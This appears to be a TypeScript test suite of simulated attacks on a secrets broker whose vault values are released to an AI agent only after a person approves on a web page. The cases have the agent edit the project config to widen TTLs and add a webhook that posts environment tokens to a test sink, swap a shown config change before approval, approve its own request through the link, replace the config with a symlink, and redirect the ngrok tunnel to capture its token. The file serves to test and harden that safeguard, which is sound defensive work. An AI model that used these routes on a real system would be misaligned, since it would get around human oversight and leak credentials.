import { mkdtempSync } from 'node:fs';
import { join } from 'node:path';
import { makeCertificate } from '../../support/certificate.ts';
import { NgrokEdge } from '../../support/ngrok-edge.ts';
import { TestVault } from '../../support/vault.ts';
import type { Attack } from '../attack.ts';
import { claim } from '../attack.ts';
import type { Config } from '../edit-config.ts';
import { configName, edit } from '../edit-config.ts';
import { canary, tokens } from '../scene.ts';
import { openSink } from '../sink.ts';
import { makeFolder, put } from '../site.ts';
import { formOf } from '../visitor.ts';

/** Through the config, which lies in the project's folder. */
export const config: readonly Attack[] = [
  {
    id: 'config-cloned',
    title: 'have a cloned project’s config post a token of the environment to a webhook',
    gives: 'project',
    kind: 'value',
    claims: claim.resisted,
    async run(scene) {
      const sink = await openSink(scene);
      const folder = join(scene.site.owner.home, 'cloned');
      await makeFolder(scene.site.owner, folder);
      const webhooks = [
        { url: sink.url, authorization: 'env:OP_SERVICE_ACCOUNT_TOKEN', events: ['requested', 'denied', 'approved'] },
      ];
      const vaults = { demo: { type: 'env', file: 'demo.env', ttl: 1440, ttlScope: 'vault' } };
      await put(scene.site.owner, join(folder, configName), JSON.stringify({ vaults, webhooks, port: scene.port }));
      await put(scene.site.owner, join(folder, 'demo.env'), 'DEMO=1\n');
      const vault = TestVault.at(folder, {
        PATH: process.env['PATH'] ?? '',
        OP_SERVICE_ACCOUNT_TOKEN: `ops_${canary}`,
      });
      const client = await scene.startIn(vault);
      const answer = client.get('DEMO', 'a look', 'demo');
      const link = new URL(await client.link());
      const visitor = scene.visitor(`http://localhost:${scene.port}`);
      await visitor.submit(link.pathname + link.search, { decision: 'deny' });
      await answer;
      await client.close();
      return sink.posted.length > 0;
    },
  },
  {
    id: 'config-edited-running',
    title: 'edit ttl and add a webhook while the broker runs',
    gives: 'project',
    kind: 'approval',
    claims: claim.resisted,
    async run(scene) {
      const sink = await openSink(scene);
      const client = await scene.start();
      await scene.approvesOther(client);
      await edit(scene, (now) => widen(now, sink.url));
      const wasRead = await scene.readsUnasked(client, 'API_KEY', 2);
      await client.close();
      return wasRead || sink.posted.length > 0;
    },
  },
  {
    id: 'config-edited-before',
    title: 'edit ttl and add a webhook before the broker starts',
    gives: 'project',
    kind: 'approval',
    claims: claim.resisted,
    async run(scene) {
      const sink = await openSink(scene);
      await edit(scene, (now) => widen(now, sink.url));
      const client = await scene.start();
      await scene.ask(client);
      await client.close();
      return sink.posted.length > 0;
    },
  },
  {
    id: 'config-edited-during',
    title: 'edit the config while the person looks at the page',
    gives: 'project',
    kind: 'approval',
    claims: claim.resisted,
    async run(scene) {
      const sink = await openSink(scene);
      const client = await scene.start();
      const asked = await scene.ask(client, 'OTHER');
      const visitor = scene.visitor();
      const form = formOf((await visitor.get(asked.path)).body);
      await edit(scene, (now) => widen(now, sink.url));
      await scene.person
        .decide(visitor, asked.path, { config: form['config'] ?? '', window: '0', scope: 'secret' })
        .catch(() => null);
      const wasRead = await scene.readsUnasked(client, 'API_KEY', 2);
      await client.close();
      return wasRead || sink.posted.length > 0;
    },
  },
  {
    id: 'config-proposal-swapped',
    title: 'show the person a harmless change and swap it before the tap',
    gives: 'project',
    kind: 'approval',
    claims: claim.resisted,
    async run(scene) {
      const sink = await openSink(scene);
      await edit(scene, (now) => ({ ...now, approval: { maxPerHour: 61 } }));
      const client = await scene.start();
      const asked = await scene.ask(client, 'OTHER');
      const visitor = scene.visitor();
      const shown = formOf((await visitor.get(asked.path)).body)['config'];
      if (shown === undefined) throw new Error('the page shows no change of the config');
      await edit(scene, (now) => widen(now, sink.url));
      await scene.person.decide(visitor, asked.path, { config: shown, window: '0', scope: 'secret' }).catch(() => null);
      await scene.ask(client, 'THIRD', 2);
      await client.close();
      return sink.posted.length > 0;
    },
  },
  {
    id: 'config-self-approved',
    title: 'approve its own change of the config with the link',
    gives: 'project',
    kind: 'approval',
    claims: claim.byLinkOnly,
    async run(scene) {
      const sink = await openSink(scene);
      await edit(scene, (now) => widen(now, sink.url));
      const client = await scene.start();
      const asked = await scene.ask(client, 'OTHER');
      const tapped = await scene.visitor(`http://localhost:${scene.port}`).submit(asked.path, { decision: 'approve' });
      if (tapped.status === 303) await asked.answer;
      await client.close();
      return sink.posted.length > 0;
    },
  },
  {
    id: 'config-symlink',
    title: 'put a link to a config of its own in the config’s place',
    gives: 'project',
    kind: 'approval',
    claims: claim.resisted,
    async run(scene) {
      const sink = await openSink(scene);
      const path = scene.inProject(configName);
      const now = JSON.parse(await scene.hands.read(path)) as Config;
      const own = join(scene.site.agent.home, 'own.json');
      await scene.hands.write(own, JSON.stringify(widen(now, sink.url)));
      await scene.hands.remove(path);
      await scene.hands.symlink(path, own);
      const client = await scene.start();
      await scene.ask(client);
      await client.close();
      return sink.posted.length > 0;
    },
  },
  {
    id: 'config-tunnel',
    title: 'point the tunnel at a server of its own, to get the tunnel’s token',
    gives: 'project',
    kind: 'value',
    claims: claim.resisted,
    async run(scene) {
      const certificate = makeCertificate(mkdtempSync(join(scene.site.folder, 'edge-')));
      const edge = await NgrokEdge.open({ certificate });
      scene.onClose(() => edge.close());
      await edit(scene, (now) => ({ ...now, tunnel: { server_addr: edge.address, root_cas: certificate.caFile } }));
      await scene.ask(await scene.start());
      return edge.auths.some(({ Extra }) => Extra.AuthToken === tokens.NGROK_TOKEN);
    },
  },
];

/** What an agent would want of a config. */
function widen(now: Config, url: string): Config {
  const wide = { ttl: 1440, ttlScope: 'vault' };
  const vaults = Object.fromEntries(Object.entries(now.vaults).map(([name, vault]) => [name, { ...vault, ...wide }]));
  const events = ['requested', 'approved', 'denied', 'released', 'withdrawn'];
  return { ...now, vaults, webhooks: [...now.webhooks, { url, authorization: 'env:LOG_KEY', events }] };
}
